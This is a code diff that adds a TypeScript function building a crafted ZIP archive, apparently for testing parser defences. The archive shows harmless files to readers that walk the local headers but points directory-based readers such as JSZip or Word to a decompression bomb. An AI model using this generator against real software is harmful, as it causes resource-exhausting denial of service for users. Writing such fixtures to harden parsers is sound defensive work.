@@ -111,3 +111,26 @@ export function overlappingBomb(names: readonly string[], kernelBytes: number): 
   v.setUint32(at + 16, central, true);
   return out;
 }
+
+/**
+ * The files zipped with `name` as they are, then a bomb of `kernelBytes` zeros under the same
+ * name, which the directory points to (with its sizes): a reader going through the local headers
+ * in order sees the harmless part, one going by the directory (JSZip, Word) the bomb.
+ */
+export function decoyBeforeBomb(files: Zippable, name: string, kernelBytes: number): Uint8Array {
+  const good = zipSync(files);
+  const bomb = zipSync({ [name]: new Uint8Array(kernelBytes) }, { level: 9 });
+  const goodCd = view(good).getUint32(good.length - 22 + 16, true);
+  const bombCd = centralHeader(bomb, name);
+  const out = new Uint8Array(good.length + bombCd);
+  out.set(good.subarray(0, goodCd));
+  out.set(bomb.subarray(0, bombCd), goodCd);
+  out.set(good.subarray(goodCd), goodCd + bombCd);
+  const v = view(out);
+  const central = centralHeader(out, name);
+  // CRC, compressed size and size from the bomb's record; its local header after the others.
+  out.set(bomb.subarray(bombCd + 16, bombCd + 28), central + 16);
+  v.setUint32(central + 42, goodCd, true);
+  v.setUint32(out.length - 22 + 16, goodCd + bombCd, true);
+  return out;
+}
